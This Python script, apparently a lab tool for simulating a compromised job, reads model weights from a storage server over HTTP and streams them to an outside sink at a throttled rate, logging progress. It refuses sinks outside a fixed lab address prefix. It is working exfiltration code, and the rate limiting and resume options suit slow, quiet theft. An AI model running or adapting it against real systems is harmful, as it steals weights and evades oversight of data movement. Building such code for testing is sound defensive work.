"""What a compromised job does in the lab: reads weights from the storage and sends them outside, at a set rate.

    python3 carry.py STORE:PORT/PATH SINK:PORT BYTES_PER_SECOND LOG [FIRST] [WAIT]

It is for the lab's own machines: its caller starts it nowhere else, and it refuses a sink outside the lab's outside
network. Standard library only. `LOG` gets lines of JSON: `began`, `connected`, `sent` and why it ended.
"""

import json
import os
import socket
import sys
import time
from typing import IO

OUTSIDE = "192.88.99."
CHUNK = 1 << 16
PATIENCE = 5.0
"""Seconds without progress after which it gives up."""


def main() -> None:
    """Carry until everything is gone, or nothing moves any more."""
    store, sink, rate, log, first, wait = [*sys.argv[1:], "0", "0"][:6]
    if not sink.startswith(OUTSIDE):
        raise SystemExit(f"{sink} is not in the lab's outside network")
    with open(log, "a", buffering=1) as file:
        _say(file, "began")
        sent, why = 0, "all"
        try:
            sent = _carry(store, sink, float(rate), file, int(first), float(wait))
        except OSError as error:
            why = str(error)
        _say(file, "ended", sent=sent, why=why)


def _carry(store: str, sink: str, rate: float, file: IO[str], first: int, wait: float) -> int:
    end, path = store.split("/", 1)
    out = _connected(sink)
    _say(file, "connected")
    time.sleep(wait)
    source = _connected(end)
    source.sendall(f"GET /{path} HTTP/1.1\r\nHost: {end}\r\nRange: bytes={first}-\r\n\r\n".encode())
    size, body = _head(source)
    _say(file, "reads", bytes=size)
    out.sendall(body)
    sent, begun = len(body), time.monotonic()
    into, outof = os.pipe()[::-1]
    while sent < size:
        if rate:
            time.sleep(max(0.0, begun + sent / rate - time.monotonic()))
        moved = os.splice(source.fileno(), into, min(CHUNK, size - sent))
        if not moved:
            break
        while moved:
            gone = os.splice(outof, out.fileno(), moved)
            moved, sent = moved - gone, sent + gone
    out.shutdown(socket.SHUT_WR)
    return sent


def _head(source: socket.socket) -> tuple[int, bytes]:
    """(bytes of the body, those that came with the head)."""
    data = b""
    while b"\r\n\r\n" not in data:
        got = source.recv(1 << 14)
        if not got:
            raise OSError("the storage ended the connection")
        data += got
    head, _, body = data.partition(b"\r\n\r\n")
    lines = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    return int(lines[0].split(b":")[1]), body


def _connected(end: str) -> socket.socket:
    host, port = end.rsplit(":", 1)
    made = socket.create_connection((host, int(port)), PATIENCE)
    made.settimeout(None)
    made.setsockopt(socket.IPPROTO_TCP, 18, round(PATIENCE * 1000))  # TCP_USER_TIMEOUT (tcp(7)): what is cut ends
    return made


def _say(file: IO[str], what: str, **more: object) -> None:
    file.write(json.dumps({"at": time.time(), "what": what, **more}) + "\n")


if __name__ == "__main__":
    main()
